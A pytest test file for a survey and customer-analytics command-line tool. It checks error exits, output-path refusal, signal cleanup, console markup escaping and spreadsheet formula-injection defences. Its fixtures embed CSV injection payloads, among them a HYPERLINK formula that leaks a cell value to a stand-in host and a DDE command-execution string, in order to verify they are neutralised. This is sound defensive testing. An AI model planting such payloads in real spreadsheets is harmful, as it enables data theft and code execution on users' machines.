"""Hostile and broken input at the command line (issue 15, points 1, 4, 5, 6 and 7).

One error boundary (exit 2 input, 3 internal error); options checked before any
data are read; outputs checked before any work; no live formulas in Excel or CSV
outputs; data values printed as text; no worker process and no temporary file
left by SIGTERM or SIGKILL.
"""

from __future__ import annotations

import json
import os
import re
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest

from satisfaction import io as sio
from satisfaction.cli import child_pids, main

ROOT = Path(__file__).resolve().parent.parent
BANK_Q = ROOT / "satisfaction" / "questionnaires" / "ecsi_bank.yaml"
BANK = ROOT.parent / "shared" / "data" / "bank_satisfaction.csv"
CDNOW = Path(__file__).parent / "data" / "cdnow_sample.csv"
PYTHON = sys.executable
COMMAND = [PYTHON, "-m", "satisfaction.cli"]

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A1"


def _temps(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# -- fixtures: hostile files ------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict[str, Path]:
    """The bank survey with formula ids, a console-markup cell, a formula answer and group
    value, a construct named with dollar signs; CDNOW transactions with formula ids."""
    folder = tmp_path_factory.mktemp("hostile")
    d = pd.read_csv(BANK, dtype=str)
    d.loc[0, "respondent"] = HYPERLINK
    d.loc[1, "respondent"] = DDE
    d.loc[2, "respondent"] = "@SUM(1+1)"
    d.loc[3, "imag1"] = "[/bold]"
    d.loc[5, "imag2"] = "=1+2"
    d.loc[6, "gender"] = '=HYPERLINK("http://evil.example","x")'
    d.to_csv(folder / "responses.csv", index=False)
    q = BANK_Q.read_text(encoding="utf-8").replace(
        "name: {en: Perceived value, zh: 感知价值}",
        "name: {en: Price $ value $, zh: 价格 $ 价值 $}")
    assert "Price $ value $" in q
    (folder / "q.yaml").write_text(q, encoding="utf-8")
    t = pd.read_csv(CDNOW, dtype=str)
    ids = list(t["customer_id"].dropna().unique())
    # (a carriage return inside a CSV cell is covered by the unit tests of the rule)
    rename = {ids[0]: HYPERLINK, ids[1]: DDE, ids[2]: "+1-2", ids[3]: "-5", ids[4]: "@x",
              ids[5]: "\tTAB"}
    t["customer_id"] = t["customer_id"].map(lambda c: rename.get(c, c))
    t.loc[10, "amount"] = "[/bold]"
    t.to_csv(folder / "tx.csv", index=False)
    return {"folder": folder, "q": folder / "q.yaml", "responses": folder / "responses.csv",
            "tx": folder / "tx.csv", "rename": rename}


# -- 1. one error boundary --------------------------------------------------------------------

def _boom(*args, **kwargs):
    raise ValueError("f(a) and f(b) must have different signs")


def test_an_unexpected_exception_is_an_internal_error_exit_3(monkeypatch, capsys):
    monkeypatch.setattr("satisfaction.responses.load_responses", _boom)
    assert main(["validate", str(BANK_Q), str(BANK)]) == 3
    err = capsys.readouterr().err
    assert "internal error (ValueError: f(a) and f(b) must have different signs)" in err
    assert "please report" in err and "--debug" in err
    assert "Traceback" not in err
    assert len(err.strip().splitlines()) == 2


def test_debug_shows_the_traceback_and_keeps_the_exit_code(monkeypatch, capsys):
    monkeypatch.setattr("satisfaction.responses.load_responses", _boom)
    assert main(["validate", str(BANK_Q), str(BANK), "--debug"]) == 3
    err = capsys.readouterr().err
    assert "Traceback (most recent call last)" in err and "_boom" in err
    assert "internal error" in err


def test_an_os_error_is_an_input_error_exit_2(monkeypatch, capsys):
    def refused(*args, **kwargs):
        raise PermissionError(13, "Permission denied", "locked.csv")

    monkeypatch.setattr("satisfaction.responses.load_responses", refused)
    assert main(["validate", str(BANK_Q), str(BANK)]) == 2
    err = capsys.readouterr().err
    assert err.strip() == "error: locked.csv: Permission denied"


def test_a_real_internal_error_in_a_subprocess_prints_no_traceback(tmp_path):
    # a command run as the user runs it: the boundary holds outside pytest too
    script = tmp_path / "run.py"
    script.write_text(textwrap.dedent(f"""
        import sys
        import satisfaction.responses as r
        from satisfaction.cli import main
        def boom(*a, **k):
            raise KeyError("no such thing")
        r.load_responses = boom
        sys.exit(main(["validate", {str(BANK_Q)!r}, {str(BANK)!r}]))
    """))
    done = subprocess.run([PYTHON, str(script)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 3
    assert "Traceback" not in done.stderr and "please report" in done.stderr


OPTION_CASES = [
    (["efa", "Q", "D", "--factors", "0"], "--factors"),
    (["efa", "Q", "D", "--factors", "27"], "--factors"),  # 27 items: at most 26 factors
    (["efa", "Q", "D", "--method", "pca"], "--method"),
    (["efa", "Q", "D", "--rotation", "quartimax"], "--rotation"),
    (["fit", "Q", "D", "--missing", "pairwise"], "--missing"),
    (["fit", "Q", "D", "--bootstrap", "-5"], "--bootstrap"),
    (["report", "Q", "D", "--bootstrap", "-1"], "--bootstrap"),
    (["report", "Q", "D", "--lang", "fr"], "--lang"),
    (["compare", "Q", "D", "--adjust", "tukey"], "--adjust"),
]


@pytest.mark.parametrize(("args", "option"), OPTION_CASES)
def test_option_errors_name_the_option_before_any_data_are_read(args, option, monkeypatch,
                                                                 capsys):
    def no_data(*a, **k):
        raise AssertionError("the data were read before the options were checked")

    for name in ("satisfaction.responses.load_responses", "satisfaction.responses.read_table",
                 "satisfaction.pipeline.run"):
        monkeypatch.setattr(name, no_data)
    argv = [str(BANK_Q) if a == "Q" else str(BANK) if a == "D" else a for a in args]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert f"option '{option}'" in err, err
    assert "column" not in err and "bank_satisfaction.csv" not in err, err
    assert "read before" not in err


# -- 4. files --------------------------------------------------------------------------------

@pytest.fixture
def a_file(tmp_path) -> Path:
    path = tmp_path / "plain.txt"
    path.write_text("I am a file\n")
    return path


def _bad_outputs(tmp_path: Path, a_file: Path) -> dict[str, tuple[list[str], str]]:
    return {
        "proc": (["--out", "/proc/x.pdf"], "no file can be created in the folder '/proc'"),
        "under a file": (["--out", str(a_file / "x.pdf")], "is a file, not a folder"),
        "a folder": (["--out", str(tmp_path)], "it is a folder; give a file name"),
        "the input": (["--out", str(BANK)], "it is the input file"),
        "json onto input": (["--json", str(BANK_Q)], "it is the input file"),
        "twice": (["--out", str(tmp_path / "r.pdf"), "--json", str(tmp_path / "r.pdf")],
                  "is also given to --out"),
        "not a regular file": (["--excel", "/dev/null"], "it is not a regular file"),
    }


@pytest.mark.parametrize("case", ["proc", "under a file", "a folder", "the input",
                                  "json onto input", "twice", "not a regular file"])
def test_unwritable_outputs_are_refused_before_the_analysis(case, tmp_path, a_file,
                                                            monkeypatch, capsys):
    def no_analysis(*a, **k):
        raise AssertionError("the analysis started")

    monkeypatch.setattr("satisfaction.pipeline.run", no_analysis)
    extra, message = _bad_outputs(tmp_path, a_file)[case]
    before = BANK.read_bytes()
    assert main(["report", str(BANK_Q), str(BANK), *extra]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: option '--") and message in err, err
    assert len(err.splitlines()) == 1
    assert BANK.read_bytes() == before
    assert not any(p.name.startswith(".satisfaction-probe") for p in tmp_path.iterdir())


def test_the_report_function_checks_its_default_output_too(tmp_path, monkeypatch):
    from satisfaction.api import report
    from satisfaction.errors import UsageError

    monkeypatch.setattr("satisfaction.pipeline.run", _boom)
    (tmp_path / "reports").write_text("a file where the default folder would be")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UsageError, match="is a file, not a folder"):
        report(BANK_Q, BANK)


def test_output_equal_to_an_input_is_refused_for_every_command(tmp_path, capsys):
    tx = tmp_path / "tx.csv"
    tx.write_bytes(CDNOW.read_bytes())
    responses = tmp_path / "r.csv"
    responses.write_bytes(BANK.read_bytes())
    link = tmp_path / "link.csv"
    link.symlink_to(responses)
    for argv in (["rfm", str(tx), "--out", str(tx)],
                 ["clv", str(tx), "--json", str(tx)],
                 ["validate", str(BANK_Q), str(responses), "--json", str(responses)],
                 ["validate", str(BANK_Q), str(responses), "--json", str(link)],
                 ["fit", str(BANK_Q), str(responses), "--scores", str(responses)],
                 ["reliability", str(BANK_Q), str(responses), "--json", str(BANK_Q)]):
        assert main(argv) == 2, argv
        assert "it is the input file" in capsys.readouterr().err
    assert tx.read_bytes() == CDNOW.read_bytes()
    assert responses.read_bytes() == BANK.read_bytes()


def test_an_existing_output_keeps_its_permissions(tmp_path):
    out = tmp_path / "v.json"
    out.write_text("{}")
    os.chmod(out, 0o600)
    assert main(["validate", str(BANK_Q), str(BANK), "--json", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert json.loads(out.read_text())["loaded"] == 250
    os.chmod(out, 0o640)
    sio.write_text(out, "again")
    assert stat.S_IMODE(out.stat().st_mode) == 0o640 and out.read_text() == "again"


def test_a_new_output_gets_the_mode_of_a_plain_open(tmp_path):
    old = os.umask(0o027)
    try:
        sio.write_text(tmp_path / "new.txt", "x")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o640


def test_a_symbolic_link_output_stays_a_link(tmp_path):
    real = tmp_path / "real.json"
    real.write_text("{}")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    sio.write_json(link, {"a": 1})
    assert link.is_symlink() and json.loads(real.read_text()) == {"a": 1}


def test_a_read_only_output_is_refused(tmp_path):
    from satisfaction.errors import UsageError

    out = tmp_path / "ro.json"
    out.write_text("{}")
    os.chmod(out, 0o444)
    if os.access(out, os.W_OK):
        pytest.skip("running as root: every file is writable")
    with pytest.raises(UsageError, match="read-only"):
        sio.check_output(out, option="--json")


def test_sigkill_mid_write_leaves_a_temp_that_the_next_run_removes(tmp_path):
    out = tmp_path / "v.json"
    script = textwrap.dedent(f"""
        import os, signal
        from satisfaction.io import atomic_path
        with atomic_path({str(out)!r}) as tmp:
            tmp.write_text("half")
            os.kill(os.getpid(), signal.SIGKILL)
    """)
    done = subprocess.run([PYTHON, "-c", script], capture_output=True, timeout=60)
    assert done.returncode == -signal.SIGKILL
    left = _temps(tmp_path)
    assert len(left) == 1
    assert re.fullmatch(r"\.v\.json\.\d+\.\w+\.tmp", left[0])
    # a temp of a live writer (this process) is not touched
    mine = tmp_path / f".v.json.{os.getpid()}.abc.tmp"
    mine.write_text("busy")
    assert main(["validate", str(BANK_Q), str(BANK), "--json", str(out)]) == 0
    assert _temps(tmp_path) == [mine.name]
    assert json.loads(out.read_text())["loaded"] == 250


def test_sigterm_mid_write_removes_the_temp_and_exits_143(tmp_path):
    out = tmp_path / "v.json"
    script = textwrap.dedent(f"""
        import os, signal, sys, time
        import satisfaction.commands.basic as basic
        from satisfaction.cli import main
        from satisfaction.io import atomic_path

        def slow_write(path, data):
            with atomic_path(path) as tmp:
                tmp.write_text("half")
                os.kill(os.getpid(), signal.SIGTERM)
                time.sleep(30)

        basic.write_json = slow_write
        sys.exit(main(["validate", {str(BANK_Q)!r}, {str(BANK)!r}, "--json", {str(out)!r}]))
    """)
    start = time.monotonic()
    done = subprocess.run([PYTHON, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 143, done.stderr
    assert time.monotonic() - start < 25
    assert done.stderr.strip().endswith("terminated") and "Traceback" not in done.stderr
    assert _temps(tmp_path) == [] and not out.exists()


def test_a_transactions_path_is_read_literally_not_as_a_pattern(tmp_path):
    (tmp_path / "tx[ab].csv").write_text("customer_id,date,amount\nREAL,2024-01-05,10\n"
                                         "REAL,2024-02-05,12\n")
    (tmp_path / "txa.csv").write_text("customer_id,date,amount\nOTHER,2024-01-05,999\n")
    out = tmp_path / "r.csv"
    assert main(["rfm", str(tmp_path / "tx[ab].csv"), "--out", str(out)]) == 0
    assert list(pd.read_csv(out)["customer_id"]) == ["REAL"]


# -- 5. spreadsheet safety ---------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    (HYPERLINK, "'" + HYPERLINK), (DDE, "'" + DDE), ("+1-2", "'+1-2"), ("-A1", "'-A1"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-5", "-5"), ("+3.25", "+3.25"), ("-1e5", "-1e5"), ("plain", "plain"), ("", ""),
    (-5.5, -5.5), (3, 3), (None, None),
])
def test_spreadsheet_text_follows_the_owasp_rule(value, expected):
    assert sio.spreadsheet_text(value) == expected


def test_spreadsheet_safe_leaves_numbers_alone():
    frame = pd.DataFrame({"id": ["=1+1", "-2", "ok"], "revenue": [-10.5, 0.0, 3.0],
                          "segment": pd.Categorical(["@a", "b", "@a"])})
    safe = sio.spreadsheet_safe(frame)
    assert list(safe["id"]) == ["'=1+1", "-2", "ok"]
    assert list(safe["revenue"]) == [-10.5, 0.0, 3.0] and safe["revenue"].dtype == float
    assert list(safe["segment"]) == ["'@a", "b", "'@a"]
    assert list(frame["id"]) == ["=1+1", "-2", "ok"]  # the input is not changed


@pytest.mark.parametrize("command", ["rfm", "clv"])
def test_customer_csv_prefixes_formula_ids(command, hostile, tmp_path):
    out = tmp_path / f"{command}.csv"
    extra = ["--period-end", "1997-09-30", "--models", "bgnbd"] if command == "clv" else []
    assert main([command, str(hostile["tx"]), "--keep-duplicates", *extra,
                 "--out", str(out)]) == 0
    frame = pd.read_csv(out, dtype={"customer_id": str}, keep_default_na=False)
    ids = set(frame["customer_id"])
    for raw in hostile["rename"].values():
        if raw == "-5":  # a plain (negative) number is not a formula
            assert "-5" in ids
        else:
            assert "'" + raw in ids and raw not in ids, raw
    assert (pd.to_numeric(frame["monetary"]) == frame["monetary"]).all()
    text = out.read_text()
    assert "\n=" not in text and ",=" not in text


def test_excel_cells_are_never_formulas(tmp_path):
    from openpyxl import load_workbook

    from satisfaction.report.context import Cell, Table
    from satisfaction.report.render import write_excel

    table = Table("t", "t", ["id", "v"], numeric=[False, True])
    for text, v in zip([HYPERLINK, DDE, "-3", "ok"], [-1.5, 2, -3, 4], strict=True):
        table.add(Cell(text, text), Cell(str(v), v))
    path = tmp_path / "t.xlsx"
    write_excel([table], path)
    sheet = load_workbook(path)["t"]
    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
    assert all(c.data_type != "f" for c in cells.values())
    assert cells["A2"].value == HYPERLINK and cells["A2"].quotePrefix
    assert cells["A3"].value == DDE and cells["A3"].data_type == "s"
    assert cells["B2"].value == -1.5 and cells["B2"].data_type == "n"


# -- the whole report on hostile files (Excel, console, charts) -------------------------------

@pytest.fixture(scope="module")
def hostile_report(hostile):
    folder = hostile["folder"] / "report"
    folder.mkdir()
    argv = ["report", str(hostile["q"]), str(hostile["responses"]), "--transactions",
            str(hostile["tx"]), "--bootstrap", "0", "--out", str(folder / "r.pdf"),
            "--excel", str(folder / "r.xlsx"), "--html", str(folder / "r.html")]
    done = subprocess.run([*COMMAND, *argv], capture_output=True, text=True, timeout=600,
                          cwd=str(folder))
    return folder, done


def test_report_on_hostile_files_runs_and_stores_no_formula(hostile_report):
    from openpyxl import load_workbook

    folder, done = hostile_report
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    book = load_workbook(folder / "r.xlsx")
    formulas = [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for s in book for row in s.iter_rows() for c in row}
    # the formula-like answer and group value are in the problems sheet, as text
    assert "=1+2" in texts and '=HYPERLINK("http://evil.example","x")' in texts
    assert (folder / "r.pdf").stat().st_size > 10_000
    assert _temps(folder) == []


def test_report_charts_show_a_dollar_name_literally(hostile_report):
    import base64

    folder, _ = hostile_report
    html = (folder / "r.html").read_text(encoding="utf-8")
    svgs = [base64.b64decode(m).decode("utf-8") for m in
            re.findall(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)", html)]
    bodies = [re.sub(r"<!--.*?-->", "", s, flags=re.S) for s in svgs]
    assert any("Price $ value $" in b for b in bodies)


@pytest.mark.parametrize("label", ["Price $ value $", "Cost $\\frac{1}$ x", "$^$", "$$"])
def test_chart_labels_are_never_mathtext(label):
    from satisfaction.report import charts

    svg = charts.bar_index([label, "Quality"], [50.0, 60.0], [45.0, 55.0], [55.0, 65.0],
                           f"index {label}")
    body = re.sub(r"<!--.*?-->", "", svg, flags=re.S)
    assert body.count(label.replace("&", "&amp;")) >= 2  # the tick label and the axis label


# -- 7. console ------------------------------------------------------------------------------

def test_validate_prints_console_markup_in_the_data_as_text(hostile, capsys):
    assert main(["validate", str(hostile["q"]), str(hostile["responses"])]) == 0
    captured = capsys.readouterr()
    assert "[/bold]" in captured.out and "Traceback" not in captured.err


def test_rfm_prints_console_markup_in_the_data_as_text(hostile, capsys):
    assert main(["rfm", str(hostile["tx"])]) == 0
    captured = capsys.readouterr()
    assert "[/bold]" in captured.out and captured.err == ""


def test_reliability_and_compare_print_markup_names_as_text(tmp_path, capsys):
    q = BANK_Q.read_text(encoding="utf-8").replace("id: Image", "id: Im[/bold]age").replace(
        "Image", "Im[/bold]age")
    (tmp_path / "q.yaml").write_text(q, encoding="utf-8")
    code = main(["reliability", str(tmp_path / "q.yaml"), str(BANK)])
    out = capsys.readouterr()
    if code == 2:  # the questionnaire schema may refuse such an id: then it never prints
        assert "Traceback" not in out.err
        return
    assert code == 0 and "Im[/bold]age" in out.out


# -- 6. processes ------------------------------------------------------------------------------

def _descendants(pid: int) -> set[int]:
    found: set[int] = set()
    todo = [pid]
    while todo:
        for child in child_pids(todo.pop()):
            if child not in found:
                found.add(child)
                todo.append(child)
    return found


def _running(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as f:
            return f.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except (OSError, IndexError):
        return False


def _start_report_and_signal(folder: Path, sig: int) -> tuple[subprocess.Popen, set[int]]:
    """Start ``report`` with a long bootstrap; once its workers run, send ``sig``.

    The demo survey without missing answers (its CB-SEM is admissible and fitted
    by ML, so the bootstrap runs in a worker pool; the bank's falls back to PLS,
    bootstrapped in-process), written outside
    ``folder`` so that the test can check that nothing is left in it.
    """
    from satisfaction.simulate import demo_population, simulate_responses

    # complete answers (contaminate=False): with a missing answer the model is
    # fitted by FIML with delta intervals, and no bootstrap pool would start
    data = Path(tempfile.mkdtemp(prefix="signal_data_")) / "demo.csv"
    simulate_responses(ROOT / "satisfaction" / "questionnaires" / "cram.yaml", n=2000, seed=1,
                       population=demo_population(),
                       contaminate=False).to_csv(data, index=False)
    argv = [*COMMAND, "report", "cram", str(data), "--bootstrap", "20000", "--out",
            str(folder / "r.pdf"), "--json", str(folder / "r.json"), "--excel",
            str(folder / "r.xlsx")]
    proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            cwd=str(folder))
    seen: set[int] = set()
    deadline = time.monotonic() + 180
    # the side-stage process, the resource tracker and the bootstrap pool (2+ workers)
    while time.monotonic() < deadline and proc.poll() is None:
        seen |= _descendants(proc.pid)
        if len(seen) >= 4:
            break
        time.sleep(0.2)
    time.sleep(1.0)
    seen |= _descendants(proc.pid)
    assert proc.poll() is None, "the report ended before it could be signalled"
    assert len(seen) >= 3, seen
    proc.send_signal(sig)
    return proc, seen


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc")
def test_sigterm_on_report_leaves_no_process_and_no_temp_file(tmp_path):
    proc, workers = _start_report_and_signal(tmp_path, signal.SIGTERM)
    start = time.monotonic()
    _, err = proc.communicate(timeout=60)  # stderr closes only when every holder is gone
    took = time.monotonic() - start
    assert proc.returncode == 143
    assert err.decode().strip().endswith("terminated") and b"Traceback" not in err
    assert took < 15, took
    time.sleep(1.0)
    assert [p for p in workers if _running(p)] == []
    assert _temps(tmp_path) == [] and sorted(os.listdir(tmp_path)) == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux")
def test_sigkill_on_report_leaves_no_worker(tmp_path):
    proc, workers = _start_report_and_signal(tmp_path, signal.SIGKILL)
    proc.communicate(timeout=60)
    assert proc.returncode == -signal.SIGKILL
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(_running(p) for p in workers):
        time.sleep(0.2)
    assert [p for p in workers if _running(p)] == []
